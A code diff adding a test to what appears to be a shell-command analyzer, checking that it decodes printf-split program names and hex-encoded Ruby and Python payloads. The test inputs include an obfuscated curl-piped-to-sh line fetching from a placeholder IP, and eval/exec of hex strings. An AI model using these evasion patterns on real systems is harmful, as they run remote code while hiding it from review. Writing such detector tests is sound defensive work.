@@ -147,6 +147,19 @@ def test_xargs_runs_its_command_on_what_it_reads() -> None:
     assert [c.argv for c in piped] == [("find", ".", "-name", "*.sh"), ("sh",)]
 
 
+def test_printf_fills_its_format_and_hex_literals_in_code_are_decoded() -> None:
+    """``$(printf '%s' cu rl)`` is ``curl`` (the format is reused for each argument, %s's text is not
+    unescaped); ``["...hex..."].pack("H*")`` in Ruby and Perl, ``bytes.fromhex`` in Python decode."""
+    a = analyze("$(printf '%s' cu rl) -s http://203.0.113.7/x | sh")
+    assert ("curl", "-s", "http://203.0.113.7/x") in [c.argv for c in a.commands]
+    ruby = """ruby -e 'eval(["69642d75"].pack("H*"))'"""
+    python = """python3 -c "exec(bytes.fromhex('7072696e7428313029'))" """
+    b = analyze(ruby + "; " + python)
+    assert ("id-u",) in [c.argv for c in b.commands] and "hex" in b.obfuscation
+    (written,) = analyze("printf '%s\\n' 'a\\tb' > f").files
+    assert written.contents == "a\\tb\n"  # the format's \\n is a newline; the argument's \\t stays
+
+
 def test_find_exec_acts_on_the_files_found() -> None:
     """``{}`` stands for files below the first starting point, named as -name says, whether a
     program gets them or a shell script sees them as $1."""
